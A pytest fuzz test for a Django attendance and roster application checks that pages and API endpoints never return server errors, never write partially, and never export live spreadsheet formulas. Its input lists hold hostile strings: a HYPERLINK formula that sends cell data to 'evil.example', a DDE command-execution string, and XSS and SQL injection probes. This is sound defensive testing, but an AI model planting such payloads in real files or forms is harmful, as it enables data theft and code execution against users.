"""A bounded fuzz over every page and API endpoint (issue 13 "Done means", issue 12 point 7).

Every URL pattern of the project (the admin aside: Django's own) is requested with its path ids set to real,
missing and huge values, its query parameters and form fields set to wrong types, huge and nested values, NUL
bytes, out-of-range dates and formula-looking strings, and its uploads set to hostile files. Asserted:
- no response is a 5xx;
- a refused write (4xx) changed no row anywhere (no partial writes);
- every CSV/XLSX a page exports has only neutral cells (no live formula).
Deterministic (a seeded random) and bounded, so it stays well under a minute on SQLite.
"""

import csv
import datetime
import io
import json
import random
import re

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token

from attendance.models import RosterEntry
from rosterhub.spreadsheets import FORMULA_STARTS

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Lihat")'
DAY = datetime.date(2024, 4, 16)
NASTY = [
    "", "abc", "²", "١٢", "-1", "0", "1.5", str(2**63), str(2**70), "9999-12-31", "0001-01-01", "2204-05-31",
    "2024-02-30", "2024-04-20", "\x00", "a\x00b", FORMULA, "+cmd|' /C calc'!A0", "@SUM(1)", "x" * 5000,
    "<script>alert(1)</script>", "' OR 1=1 --", "[" * 200, "true", "null", "WFH", "bulan", "minggu", "desc",
]
# Every query parameter and form field the pages read (kept in one list so a new one is fuzzed by adding it).
PARAMS = [
    "unit", "mulai", "periode", "se", "pegawai", "tanggal", "date", "date_from", "date_to", "start", "end", "page",
    "sort", "dir", "agency", "q", "status", "kind", "actor", "object_type", "interface", "region", "category",
    "next", "cells", "code", "leave_type", "pattern", "override", "requests", "action", "approve", "note", "reason",
    "employee", "address", "address_region", "version", "reported_present", "reported_absent_total", "name", "nip",
    "nik", "employment_type", "active_from", "active_until", "last_day", "language", "jurisdiction", "level",
]
JSON_VALUES = [
    None, True, -1, 2**70, 1.5e308, "", "\x00", FORMULA, "9999-12-31", "0001-01-01", [], {}, [[[[[]]]]],
    {"rows": "x"}, {"rows": [None]}, {"rows": [{"date": "9999-12-31", "nip": "\x00"}]}, "x" * 20000,
]
UPLOADS = [
    ("a.csv", b"nip,tanggal,kode\n\x00\x00\x00\n"),
    ("a.csv", b"nip,tanggal,kode\n1,9999-12-31,WFO\n"),
    ("a.csv", f"nip,tanggal,kode,nama\n1,2024-04-16,WFO,{FORMULA}\n".encode()),
    ("a.csv", b"\xff\xfe\x00n\x00i\x00p"),
    ("a.xlsx", b"PK\x03\x04garbage"),
    ("a.xlsx", b"not a zip"),
    ("a.csv", b"," * 10000 + b"\n"),
    ("a.txt", b"hello"),
]
SKIP = re.compile(r"^(admin/|keluar/|static/|media/)")
EXPORT = re.compile(r"(ekspor|unduh)[^/]*\.(csv|xlsx)$|\.(csv|xlsx)$")
CASES_PER_URL = 5


def url_patterns(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        route = prefix + str(entry.pattern)
        if isinstance(entry, URLResolver):
            yield from url_patterns(entry, route)
        elif isinstance(entry, URLPattern):
            yield route.lstrip("^").rstrip("$").replace("\\Z", "")


def concrete(route: str, rng: random.Random, ids: list[int]) -> str | None:
    if SKIP.match(route) or "(?P" in route or "^" in route:
        return None
    route = route.replace("\\.", ".").replace("\\", "")

    def value(match):
        kind, name = match.group(1), match.group(2)
        if kind in ("int", "id"):
            return str(rng.choice([*ids, 0, 999999, 2**62, 10**17]))
        if name == "fmt":
            return rng.choice(["csv", "xlsx", "pdf", "exe"])
        if name == "day":
            return rng.choice(["2024-04-16", "9999-12-31", "0001-01-01", "abc", "2024-02-30"])
        if name == "table":
            return rng.choice(["units", "trend", "findings", "watchlist", "roll_calls", "x"])
        return rng.choice(["x", "units", "1"])

    return "/" + re.sub(r"<(?:(\w+):)?(\w+)>", value, route)


def row_counts() -> dict[str, int]:
    skip = {"sessions.session", "admin.logentry", "authtoken.token", "contenttypes.contenttype", "auth.permission"}
    return {
        model._meta.label_lower: model.objects.count()
        for model in apps.get_models() if model._meta.label_lower not in skip and not model._meta.proxy
    }


def assert_neutral_export(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    elif "spreadsheetml" in response["Content-Type"]:
        book = load_workbook(io.BytesIO(content))
        raw = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in raw)
        cells = [cell.value for cell in raw]
    else:
        return
    for cell in cells:
        if isinstance(cell, str) and cell.lstrip(" ")[:1] in FORMULA_STARTS and cell != "-":
            assert re.fullmatch(r"-?\d+([.,]\d+)?", cell), f"live formula in an export: {cell!r}"


@pytest.fixture
def hostile_world(world):
    """The shared world with formula-looking names and notes, a roster and a circular, so exports have content."""
    from attendance.models import AttendanceRecord
    from policies.models import Circular, Rule

    for employee in world.bekasi_staff[:2]:
        employee.name = FORMULA
        employee.save()
    for employee in world.bekasi_staff:
        RosterEntry.objects.create(employee=employee, unit=employee.unit, agency=employee.agency, date=DAY, location="WFH")
        AttendanceRecord.objects.create(employee=employee, unit=employee.unit, agency=employee.agency, date=DAY,
                                        status="S", note="@SUM(1+1)")
    circular = Circular.objects.create(number="1/2024", title=FORMULA, issuer=world.bekasi, signed_on=DAY,
                                       status="published")
    Rule.objects.create(circular=circular, start_date=DAY, end_date=DAY, categories=["administration"], wfh_cap_percent=0)
    return world


def test_no_page_or_endpoint_answers_5xx_writes_partially_or_exports_a_formula(hostile_world, django_user_model):
    w = hostile_world
    root = django_user_model.objects.create_superuser("akar", "akar@example.go.id", "sandi-uji-123")
    token = Token.objects.create(user=root).key
    clients = {}
    for name, user in (("root", root), ("hr", w.bekasi_hr), ("head", w.bekasi_head), ("employee", w.bekasi_employee)):
        clients[name] = Client(raise_request_exception=False)
        clients[name].force_login(user)
    ids = [w.bekasi_setda.pk, w.bekasi_staff[1].pk, w.bekasi.pk, 1]
    rng = random.Random(13)
    routes = sorted(set(url_patterns()))
    assert len(routes) > 40  # the resolver walk found the project's URLs
    failures, requests, statuses = [], 0, {}
    for route in routes:
        for _ in range(CASES_PER_URL):
            url = concrete(route, rng, ids)
            if url is None:
                break
            client = clients[rng.choice(list(clients))]
            params = {p: rng.choice(NASTY) for p in rng.sample(PARAMS, k=rng.randint(1, 6))}
            before = row_counts()
            if url.startswith("/api/"):
                headers = {"HTTP_AUTHORIZATION": f"Token {token}"}
                if rng.random() < 0.5:
                    response = client.get(url, params, **headers)
                else:
                    body = rng.choice(JSON_VALUES + ["[" * 3000 + "]" * 3000])
                    payload = body if isinstance(body, str) and body.startswith("[") else json.dumps(body)
                    response = client.generic("POST", url, payload, content_type="application/json", **headers)
            elif rng.random() < 0.4:
                response = client.get(url, params)
            else:
                if rng.random() < 0.4:
                    name, content = rng.choice(UPLOADS)
                    params["file"] = SimpleUploadedFile(name, content)
                response = client.post(url, params)
            requests += 1
            statuses[response.status_code // 100] = statuses.get(response.status_code // 100, 0) + 1
            if response.status_code >= 500:
                failures.append(f"{response.status_code} {response.request['REQUEST_METHOD']} {url} {params!r:.200}")
            elif response.status_code >= 400 and response.request["REQUEST_METHOD"] == "POST":
                after = row_counts()
                changed = {k: (before[k], after[k]) for k in before if before[k] != after[k]}
                if changed:
                    failures.append(f"partial write on {response.status_code} POST {url}: {changed}")
            elif response.status_code == 200 and EXPORT.search(url.split("?")[0]):
                assert_neutral_export(response)
    assert requests > 200 and statuses.get(2, 0) > 30 and statuses.get(4, 0) > 30, statuses
    print(f"fuzz: {requests} requests, by class {sorted(statuses.items())}")
    assert not failures, "\n".join(failures[:30])
